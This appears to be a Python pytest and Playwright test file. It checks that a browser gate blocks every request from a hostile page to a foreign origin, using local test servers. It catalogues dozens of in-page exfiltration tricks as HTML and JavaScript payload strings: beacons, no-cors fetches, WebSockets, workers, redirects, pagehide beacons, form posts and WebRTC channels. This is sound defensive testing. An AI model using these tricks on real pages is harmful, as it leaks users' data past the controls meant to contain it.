"""No byte reaches a foreign origin, whatever the page tries; each trick works in a browser without a gate."""

from __future__ import annotations

from typing import Any

import pytest
from hostile_site import Ear, Rogue
from playwright.async_api import Error as PlaywrightError
from playwright.async_api import Page

# Each in-page trick says its name to the foreign origin: by itself (F), or by a redirect of our own (O/to-, O/read).
# {F} foreign, {O} own, {W} foreign as ws://, {L} our own server as another site; {n} the trick's name.
TRICKS = {
    "img": "<img src='{F}/{n}'>",
    "css": "<style>body{{background:url({F}/{n})}}</style>",
    "script": "<script src='{F}/{n}'></script>",
    "iframe": "<iframe src='{F}/{n}'></iframe>",
    "object": "<object data='{F}/{n}'></object>",
    "video": "<video src='{F}/{n}' preload=auto></video>",
    "prefetch": "<link rel=prefetch href='{F}/{n}'>",
    "preload": "<link rel=preload as=script href='{F}/{n}'>",
    "stylesheet": "<link rel=stylesheet href='{F}/{n}'>",
    "fetch": "<script>fetch('{F}/{n}',{{method:'POST',mode:'no-cors',body:'x'}})</script>",
    "keepalive": "<script>fetch('{F}/{n}',{{method:'POST',mode:'no-cors',keepalive:true,body:'x'}})</script>",
    "xhr": "<script>var x=new XMLHttpRequest();x.open('POST','{F}/{n}');x.send('x')</script>",
    "beacon": "<script>navigator.sendBeacon('{F}/{n}','x')</script>",
    "event-source": "<script>new EventSource('{F}/{n}')</script>",
    "web-socket": "<script>new WebSocket('{W}/{n}')</script>",
    "worklet": "<script>CSS.paintWorklet?.addModule('{F}/{n}').catch(()=>0)</script>",
    "ping": "<a id=p ping='{F}/{n}' href='#'>x</a><script>p.click()</script>",
    "popup": "<script>window.open('{F}/{n}')</script>",
    "popup-without-opener": "<script>window.open('{F}/{n}','_blank','noopener')</script>",
    "link-blank": "<a id=b target=_blank href='{F}/{n}'>x</a><script>b.click()</script>",
    "form-blank": "<form id=f1 method=post target=_blank action='{F}/{n}'></form><script>f1.submit()</script>",
    "form-in-frame": "<iframe name=i></iframe><form id=g target=i action='{F}/{n}'></form><script>g.submit()</script>",
    "worker": "<script>new Worker(URL.createObjectURL(new Blob([`fetch('{F}/{n}',{{mode:'no-cors'}})`])))</script>",
    "shared-worker": (
        "<script>new SharedWorker(URL.createObjectURL(new Blob([`fetch('{F}/{n}',{{mode:'no-cors'}})`])))</script>"
    ),
    "data-frame": "<iframe src=\"data:text/html,<script>fetch('{F}/{n}',{{mode:'no-cors'}})</script>\"></iframe>",
    "frame-socket": "<iframe srcdoc=\"<script>new WebSocket('{W}/{n}')</script>\"></iframe>",
    "new-frame-socket": "<iframe id=k></iframe><script>new k.contentWindow.WebSocket('{W}/{n}')</script>",
    "popup-socket": "<script>new (window.open('about:blank').WebSocket)('{W}/{n}')</script>",
    "redirected-frame": "<iframe src='{O}/to-{n}'></iframe>",
    "redirected-fetch": "<script>fetch('{O}/to-{n}',{{mode:'no-cors'}})</script>",
    "redirected-image": "<img src='{O}/to-{n}'>",
    "redirected-source": "<script>new EventSource('{O}/to-{n}')</script>",
    "redirected-popup": "<script>window.open('{O}/to-{n}','_blank','noopener')</script>",
    "redirected-worker": (
        "<script>new Worker(URL.createObjectURL(new Blob([`fetch('{O}/to-{n}',{{mode:'no-cors'}})`])))</script>"
    ),
    "redirected-shared-worker": (
        "<script>new SharedWorker(URL.createObjectURL(new Blob([`fetch('{O}/to-{n}',{{mode:'no-cors'}})`])))</script>"
    ),
    "redirected-sandbox": (
        "<iframe sandbox=allow-scripts srcdoc=\"<script>fetch('{O}/to-{n}',{{mode:'no-cors'}})</script>\"></iframe>"
    ),
    "redirected-other-site": "<iframe src='{L}/inner'></iframe>",
    "redirected-read": "<script>fetch('/read?read',{{method:'POST',mode:'no-cors',body:'x'}})</script>",
    "redirected-beacon": "<script>navigator.sendBeacon('/read?beacon','x')</script>",
}
ARRIVES_AS = {"redirected-read": "read", "redirected-beacon": "read"}
# Time for what the page has set going; what was to come has come long before in the control.
OVER = "<script>setTimeout(() => { window.over = true }, 400)</script>"

# What takes the page itself away; {n} names it again.
DEPARTURES = {
    "location": "<script>location='{F}/{n}'</script>",
    "meta-refresh": "<meta http-equiv=refresh content='0;url={F}/{n}'>",
    "form": "<form id=f method=post action='{F}/{n}'><input name=q value=secret></form><script>f.submit()</script>",
    "form-redirected": "<form id=f method=post action='/read'><input name=q value=x></form><script>f.submit()</script>",
    "link": "<a id=a href='{F}/{n}'>x</a><script>a.click()</script>",
    "download": "<a id=a download href='{F}/{n}'>x</a><script>a.click()</script>",
    "beacon-at-the-end": (
        "<script>addEventListener('pagehide',()=>navigator.sendBeacon('{F}/{n}','x'));location='/elsewhere'</script>"
    ),
    "keepalive-at-the-end": (
        "<script>addEventListener('pagehide',()=>fetch('{F}/{n}',{{method:'POST',keepalive:true,mode:'no-cors',"
        "body:'x'}}));location='/elsewhere'</script>"
    ),
}


@pytest.fixture(autouse=True)
def _our_other_site_is_allowed(rogue: Rogue) -> None:
    rogue.forget(rogue.own.origin.replace("127.0.0.1", "localhost"))


def html(rogue: Rogue, name: str, trick: str) -> str:
    own, foreign = rogue.own.origin, rogue.foreign.origin
    rogue.own.redirect(f"/to-{name}", f"{foreign}/{name}")
    places = {"F": foreign, "O": own, "W": foreign.replace("http", "ws"), "L": own.replace("127.0.0.1", "localhost")}
    return trick.format(n=name, **places)


def set_the_traps(rogue: Rogue) -> None:
    rogue.own.redirect("/read", f"{rogue.foreign.origin}/read")
    rogue.own.page("/trick", "".join(html(rogue, name, trick) for name, trick in TRICKS.items()) + OVER)
    rogue.own.page("/inner", "<script>fetch('/to-redirected-other-site',{mode:'no-cors'})</script>")


def heard(rogue: Rogue) -> set[str]:
    return {path.removeprefix("/").partition("?")[0] for _, path, _ in rogue.foreign.heard}


def test_nothing_reaches_the_foreign_origin(rogue: Rogue) -> None:
    set_the_traps(rogue)

    stopped = rogue.run(lambda visit, page: tried(rogue, visit, page))

    assert (heard(rogue), rogue.foreign.connections) == (set(), 0)
    assert len(stopped) >= 20


async def tried(rogue: Rogue, visit: Any, page: Page) -> Any:
    await rogue.stay(page)
    return visit.gate.stopped


def test_each_trick_works_where_no_gate_stands(rogue: Rogue) -> None:
    set_the_traps(rogue)
    wanted = {ARRIVES_AS.get(name, name) for name in TRICKS}

    rogue.unguarded(lambda page: rogue.watch(page, lambda: heard(rogue) >= wanted))

    assert sorted(wanted - heard(rogue)) == []


@pytest.mark.parametrize("name", DEPARTURES)
def test_the_page_cannot_leave_for_the_foreign_origin(rogue: Rogue, name: str) -> None:
    rogue.own.redirect("/read", f"{rogue.foreign.origin}/{name}")
    rogue.own.page("/trick", html(rogue, name, DEPARTURES[name]))

    stopped = rogue.run(lambda visit, page: left(rogue, visit, page))

    assert (bool(stopped), rogue.foreign.heard) == (True, [])


@pytest.mark.parametrize("name", DEPARTURES)
def test_each_departure_works_where_no_gate_stands(rogue: Rogue, name: str) -> None:
    rogue.own.redirect("/read", f"{rogue.foreign.origin}/{name}")
    rogue.own.page("/trick", html(rogue, name, DEPARTURES[name]))

    rogue.unguarded(lambda page: rogue.watch(page, lambda: heard(rogue) == {name}))

    assert heard(rogue) == {name}


async def left(rogue: Rogue, visit: Any, page: Page) -> Any:
    """Open the page that wants to go, and stay until that was stopped, and for what may follow."""
    await page.goto(f"{rogue.own.origin}/trick", wait_until="commit")
    await rogue.wait(page, lambda: bool(visit.gate.stopped))
    await page.wait_for_timeout(400)
    return visit.gate.stopped


@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
def test_a_redirected_page_stays_here(rogue: Rogue, status: int) -> None:
    rogue.own.redirect("/trick", f"{rogue.foreign.origin}/page?secret", status)

    with pytest.raises(PlaywrightError, match="ERR_BLOCKED_BY_CLIENT"):
        rogue.run(lambda _, page: page.goto(f"{rogue.own.origin}/trick"))

    assert rogue.foreign.connections == 0


TURN = "turn:127.0.0.1:${port}?transport=tcp"
TALK = """(port) => {{
  const way = {way};
  way.createDataChannel?.('x');
  way.createOffer?.().then((offer) => way.setLocalDescription(offer));
}}"""


@pytest.mark.parametrize(
    "way",
    [
        "new WebTransport(`https://127.0.0.1:${port}/x`)",
        "new RTCPeerConnection({iceServers: [{urls: `stun:127.0.0.1:${port}`}]})",
        f"new RTCPeerConnection({{iceServers: [{{urls: `{TURN}`, username: 'u', credential: 'p'}}]}})",
    ],
)
def test_what_speaks_another_language_is_mute(rogue: Rogue, way: str) -> None:
    rogue.own.page("/trick", "")

    with Ear().running() as ear:
        rogue.run(lambda _, page: said(rogue, page, TALK.format(way=way), ear.port))

    assert ear.heard == b""


async def said(rogue: Rogue, page: Page, talk: str, port: int) -> None:
    await page.goto(f"{rogue.own.origin}/trick")
    with pytest.raises(PlaywrightError, match="is not defined"):
        await page.evaluate(talk, port)


def test_no_service_worker_is_registered(rogue: Rogue) -> None:
    rogue.own.answers["/sw.js"] = (200, {"Content-Type": "text/javascript"}, "")
    rogue.own.page("/trick", "")

    registered = rogue.run(lambda _, page: registering(rogue, page))

    assert not registered
    assert rogue.own.times("GET", "/sw.js") == 0


async def registering(rogue: Rogue, page: Page) -> bool:
    await page.goto(f"{rogue.own.origin}/trick")
    await page.evaluate("navigator.serviceWorker.register('/sw.js').catch(() => 0)")
    return bool(await page.evaluate("navigator.serviceWorker.getRegistrations().then((all) => all.length > 0)"))
